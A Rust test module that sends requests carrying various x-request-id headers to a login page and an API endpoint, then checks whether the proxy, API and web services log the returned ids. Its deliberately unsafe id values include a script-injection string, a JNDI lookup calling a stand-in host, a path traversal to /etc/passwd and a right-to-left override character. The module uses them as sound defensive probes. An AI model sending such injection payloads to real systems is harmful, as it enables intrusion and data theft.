//! Requests with and without an id of their own, and where the id of the answer is found again.

use std::{collections::BTreeMap, time::Duration};

use super::{Raw, Written, logged};
use crate::{
    dependencies::instances_of,
    observation::{Identified, Row, Seen},
    running::RunningStack,
};

/// What was answered is in the log within this.
const LOGGED_WITHIN: Duration = Duration::from_secs(3);
/// A page and an answer of the api, each with the service that makes it.
const ASKED: [(&str, &str); 2] = [("/log-in", "web"), ("/api/v1/openapi.json", "api")];

/// Asks.
pub(super) async fn observe(running: &RunningStack, raw: &Raw) -> Seen<Vec<Identified>> {
    let fresh = format!("request-{}", uuid::Uuid::new_v4().simple());
    let long = "a".repeat(300);
    let brought: [(Option<&str>, bool); 8] = [
        (None, true),
        (Some(&fresh), true),
        (Some(&long), false),
        (Some("two words"), false),
        (Some("\"><script>alert(1)</script>"), false),
        (Some("${jndi:ldap://elsewhere.example/a}"), false),
        (Some("../../etc/passwd"), false),
        (Some("caf\u{e9}\u{202e}"), false),
    ];
    let mut all = Vec::new();
    for (path, service) in ASKED {
        for (id, sane) in brought {
            let written = Written::get(path);
            let written = match id {
                Some(id) => written.with("x-request-id", id),
                None => written,
            };
            let answer = raw.ask("request_id", &written).await.answer;
            let asked: String = written.to_string().chars().take(100).collect();
            let row = Row { asked, answer };
            let id = id.map(str::to_owned);
            all.push((service, Identified { row, brought: id, sane, logged: BTreeMap::new() }));
        }
    }
    for place in ["proxy", "api", "web"] {
        let instances = instances_of(running.stack(), place);
        let concerned = |service: &str| place == "proxy" || place == service;
        let ids: Vec<String> = all
            .iter()
            .filter(|(service, _)| concerned(service))
            .map(|(_, asked)| {
                let id = asked.row.answer.as_ref().ok().and_then(|answer| answer.header("x-request-id"));
                id.unwrap_or_default().to_owned()
            })
            .collect();
        let found = logged(running, &instances, &ids, LOGGED_WITHIN).await;
        let concerned = all.iter_mut().filter(|(service, _)| concerned(service));
        for ((_, asked), found) in concerned.zip(found) {
            asked.logged.insert(place.into(), found);
        }
    }
    Ok(all.into_iter().map(|(_, asked)| asked).collect())
}
